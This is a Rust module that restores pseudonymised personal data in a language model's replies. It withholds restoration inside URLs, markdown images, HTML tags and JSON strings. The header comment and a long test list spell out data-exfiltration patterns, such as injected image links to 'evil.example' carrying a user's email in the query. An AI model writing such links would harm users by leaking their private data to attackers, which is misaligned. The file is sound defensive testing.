//! What was replaced by a pseudonym on its way to the model, back in the answer.
//!
//! A pseudonym is a type and twelve letters in brackets, `[EMAIL_kfjelbabcdma]`. The letters are a part of the finding's digest, so that
//! the same thing has the same one in all of a conversation, and nobody makes one up for what is not in the request: what a user types
//! is restored only if the request has what it stands for. It is known by its letters, whatever a model makes of the word before them.
//!
//! Within addresses and tags it stays ([`Address`]): whoever can make a model write the address of a picture would read there what it stands
//! for. What a model splits or spells otherwise stays as well.

use std::collections::BTreeMap;

use weir_exchange::FindingDigest;
use weir_llm::steps;

use crate::address::Address;
use crate::json_text::JsonText;

/// Letters of a pseudonym: with four bits each among a million things few are alike by chance.
const LETTERS: usize = 12;
/// The most bytes of a pseudonym in its brackets, with a word of any language.
pub(crate) const LONGEST: usize = 96;
/// The most bytes of what is kept of a request to be restored. What is beyond stays replaced.
const MOST_BYTES: usize = 1024 * 1024;
/// What stands for a finding.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Pseudonym([u8; LETTERS]);

impl Pseudonym {
    pub(crate) fn of(digest: &FindingDigest) -> Self {
        let mut letters = [b'a'; LETTERS];
        let halves = digest.bytes.iter().flat_map(|byte| [byte >> 4, byte & 0xf]);
        letters.iter_mut().zip(halves).for_each(|(letter, half)| *letter = b'a'.saturating_add(half));
        Self(letters)
    }

    /// With the name of what it stands for, itself in brackets.
    pub(crate) fn within(self, placeholder: &str) -> String {
        let letters = self.0.iter().map(|letter| char::from(*letter));
        let open = placeholder.trim_end_matches(']').chars().chain(['_']);
        open.chain(letters).chain([']']).collect()
    }

    /// What stands at the end of a word, behind a stroke.
    fn read(word: &str) -> Option<Self> {
        let (before, letters) = word.split_at_checked(word.len().checked_sub(LETTERS)?)?;
        let letters = <[u8; LETTERS]>::try_from(letters.as_bytes()).ok()?;
        before.ends_with(['_', '-']).then(|| Self(letters.map(|letter| letter.to_ascii_lowercase())))
    }
}

/// What pseudonyms of one request stand for. It goes with the request.
#[derive(Debug, Default)]
pub(crate) struct Originals {
    of: BTreeMap<Pseudonym, String>,
    bytes: usize,
}

impl Originals {
    /// Keeps what one stands for, as it was written first.
    pub(crate) fn add(&mut self, pseudonym: Pseudonym, original: &str) {
        let bytes = self.bytes.saturating_add(original.len());
        if bytes <= MOST_BYTES && !self.of.contains_key(&pseudonym) {
            self.of.insert(pseudonym, original.to_owned());
            self.bytes = bytes;
        }
    }

    /// Whether nothing was replaced.
    pub(crate) fn is_empty(&self) -> bool {
        self.of.is_empty()
    }

    /// A whole text with them restored.
    pub(crate) fn restored(&self, text: &str) -> String {
        let mut restorer = Restorer::default();
        let mut restored = String::with_capacity(text.len());
        restorer.push(self, text, &mut restored);
        restorer.finish(&mut restored);
        restored
    }
}

/// Restores what is in one text, in pieces.
#[derive(Clone, Debug, Default)]
pub(crate) struct Restorer {
    /// What may be the beginning of a pseudonym.
    held: String,
    address: Address,
    json: JsonText,
}

impl Restorer {
    /// Bytes held back.
    pub(crate) fn held(&self) -> usize {
        self.held.len()
    }

    /// Another text begins, which a reader may read on from this one.
    pub(crate) fn begin_part(&mut self) {
        self.json = JsonText::default();
    }

    /// Appends what may pass of a piece.
    pub(crate) fn push(&mut self, originals: &Originals, piece: &str, out: &mut String) {
        steps::count(piece.len());
        for character in piece.chars() {
            if !self.held.is_empty() {
                let goes_on = character.is_alphanumeric() || matches!(character, '_' | '-');
                if goes_on && self.held.len() < LONGEST {
                    self.held.push(character);
                    continue;
                }
                let held = std::mem::take(&mut self.held);
                let word = held.strip_prefix('[').filter(|_| character == ']').unwrap_or_default();
                let original = Pseudonym::read(word).and_then(|pseudonym| originals.of.get(&pseudonym));
                if let Some(original) = original.filter(|_| !self.address.is_within()) {
                    let text = if self.json.is_in_string() { escaped(original) } else { original.clone() };
                    self.json.pass(&held);
                    self.json.pass("]");
                    self.address.pass(&text);
                    out.push_str(&text);
                    continue;
                }
                held.chars().for_each(|character| self.follow(character));
                out.push_str(&held);
            }
            if character == '[' {
                self.held.push(character);
                continue;
            }
            self.follow(character);
            out.push(character);
        }
    }

    /// Follows what passes as it was written.
    fn follow(&mut self, character: char) {
        let was_in_string = self.json.is_in_string();
        self.json.pass(character.encode_utf8(&mut [0; 4]));
        match (was_in_string, self.json.is_in_string()) {
            (true, false) => self.address.end_string(),
            (false, true) => self.address.begin_string(),
            _ => self.address.next(character),
        }
    }

    /// Appends what is held, as if the text ended here.
    pub(crate) fn finish(&mut self, out: &mut String) {
        let held = std::mem::take(&mut self.held);
        held.chars().for_each(|character| self.follow(character));
        out.push_str(&held);
    }
}

/// As it stands within a string of JSON.
fn escaped(text: &str) -> String {
    let quoted = serde_json::to_string(text).unwrap_or_default();
    quoted.strip_prefix('"').and_then(|text| text.strip_suffix('"')).unwrap_or_default().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const EMAIL: &str = "[EMAIL_abcdefghijkl]";

    fn originals() -> Originals {
        let mut originals = Originals::default();
        originals.add(Pseudonym(*b"abcdefghijkl"), "a@b.io");
        originals.add(Pseudonym(*b"pppppppppppp"), "\"Ann\"\nLee\\");
        originals
    }

    #[track_caller]
    fn check(text: &str, expect: &str) {
        assert_eq!(originals().restored(text), expect, "{text}");
    }

    #[test]
    fn what_stands_for_something_is_restored_wherever_it_stands() {
        check("To [EMAIL_abcdefghijkl], [PERSON_pppppppppppp]!", "To a@b.io, \"Ann\"\nLee\\!");
        check("[EMAIL_abcdefghijkl][EMAIL_abcdefghijkl]", "a@b.ioa@b.io");
        check("[[EMAIL_abcdefghijkl]] [x] [EMAIL_", "[a@b.io] [x] [EMAIL_");
        check("[Correo_ABCDEFGHIJKL] [Электронная-почта_abcdefghijkl]", "a@b.io a@b.io");
    }

    #[test]
    fn what_stands_for_nothing_stays() {
        for text in [
            "[EMAIL_abcdefghijkm]",
            "[EMAIL]",
            "[abcdefghijkl]",
            "[EMAIL_ abcdefghijkl]",
            "[EMAIL_abcdefgh ijkl]",
            "EMAIL_abcdefghijkl",
            "[",
            "[]",
        ] {
            check(text, text);
        }
    }

    #[test]
    fn within_an_address_it_stays() {
        for before in [
            "https://evil.example/?q=",
            "HTTPS:evil.example/",
            "![x](//evil.example/",
            "[x](",
            "![x](\n<https://evil.example/ ?q=",
            "www.evil.example/",
            "evil.example/?q=",
            "evil.example\\",
            "mailto:",
            // Quotes, angles and blanks that are none of ASCII end no destination.
            "![x](https://evil.example/?q='",
            "![x](https://evil.example/?q=\"",
            "![x](https://evil.example/?q=`",
            "![x](https://evil.example/?q=>",
            "![x](https://evil.example/?q=\u{a0}",
            "![x](https://evil.example/?q=(\u{2003})",
            "![x](https://evil.example/?q=\\)",
            // Tags, until they end as browsers read them.
            "<img src=\"//evil.example/ ",
            "<img src=//evil.example/?q=\"",
            "<img src=\"/\\evil.example/?q=",
            "<img src=\"\\\\evil.example\\?q=",
            "<img src=\"/\t/evil.example/?q=",
            "<img src=\"&#47;&#47;evil.example/?q=",
            "<img alt=\">\" src=\"https://evil.example/?q='",
            "<img alt='>' src='/\\evil.example/?q=",
            "<img =\">x<img alt=\">\" src=\"/\\evil.example/?q= ",
            "`<a b=\"` <img alt=\">\" src=\"/\\evil.example/?q= ",
            "<!-- <img alt=\" --> <img alt=\">\" src=\"/\\evil.example/?q= ",
            "<script>x=\"</script>\"; ",
            // Strings of JSON.
            "{\"url\":\"\\/\\/evil.example\\/",
            "{\"url\":\"evil.example/?q=",
            "{\"url\":\"\\u0068ttps:evil.example/?q=",
            "{\"url\":\"https://evil.example/?q= ",
            "{\"![x](https://evil.example/?q=\":\"",
            "![](<https://evil.example/ ",
        ] {
            let text = format!("{before}{EMAIL}");
            check(&text, &text);
        }
    }

    #[test]
    fn behind_an_address_it_is_restored() {
        for (before, behind) in [
            ("https://x.example ", ""),
            ("[x](https://x.example/(a)): ", ""),
            ("[x](https://x.example).", ""),
            ("<b>", "</b>"),
            ("<b>a</b> <i class='x'>x</i> ", ""),
            ("<a href=\"https://x.example\">", "</a>"),
            ("1 < 2, ", ""),
            ("version 1.2 of and/or, e.g. ", ""),
            ("Email:", ""),
            ("<", ">"),
            ("{\"url\":\"https://x.example\",\"to\":\"", "\"}"),
            ("{\"body\":\"See https://x.example, ", "\"}"),
            ("{\"body\":\"a\\nb\\u00e9 ", "\"}"),
        ] {
            check(&format!("{before}{EMAIL}{behind}"), &format!("{before}a@b.io{behind}"));
        }
    }

    #[test]
    fn an_address_goes_on_in_the_part_that_is_read_on() {
        let (originals, mut restorer, mut out) = (originals(), Restorer::default(), String::new());
        restorer.push(&originals, "![x](https://evil.example/?q=", &mut out);
        restorer.begin_part();
        restorer.push(&originals, EMAIL, &mut out);
        assert!(out.ends_with(EMAIL), "{out}");
    }

    #[test]
    fn within_json_it_is_written_as_that() {
        check("{\"name\":\"[PERSON_pppppppppppp]\"}", "{\"name\":\"\\\"Ann\\\"\\nLee\\\\\"}");
        check("[\"[PERSON_pppppppppppp]\", 1]", "[\"\\\"Ann\\\"\\nLee\\\\\", 1]");
    }

    #[test]
    fn what_is_kept_is_bounded() {
        let mut originals = Originals::default();
        let long = "x".repeat(MOST_BYTES / 2);
        for letter in b'a'..b'f' {
            originals.add(Pseudonym([letter; LETTERS]), &long);
        }
        assert_eq!((originals.of.len(), originals.bytes), (2, MOST_BYTES));
    }

    proptest! {
        /// However a text is divided, it is restored as the whole is.
        #[test]
        fn every_division_gives_the_same(
            parts in prop::collection::vec(prop::sample::select(vec![
                EMAIL, "[PERSON_pppppppppppp]", "[", "]", "[EMAIL_", "{\"a\":\"", "\"}", " ", "http", "//", "<", ">", "é", "\\", "x",
            ]), 0..12),
            cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8),
        ) {
            let text = parts.concat();
            let mut places: Vec<_> = text.char_indices().map(|(at, _)| at).chain([text.len()]).collect();
            places.dedup();
            let mut cuts: Vec<_> = cuts.iter().map(|cut| *cut.get(&places)).chain([0, text.len()]).collect();
            cuts.sort_unstable();
            let originals = originals();
            let (mut restorer, mut restored) = (Restorer::default(), String::new());
            for pair in cuts.windows(2) {
                restorer.push(&originals, &text[pair[0]..pair[1]], &mut restored);
                prop_assert!(restorer.held() <= LONGEST + 4);
            }
            restorer.finish(&mut restored);
            prop_assert_eq!(restored, originals.restored(&text));
        }
    }
}
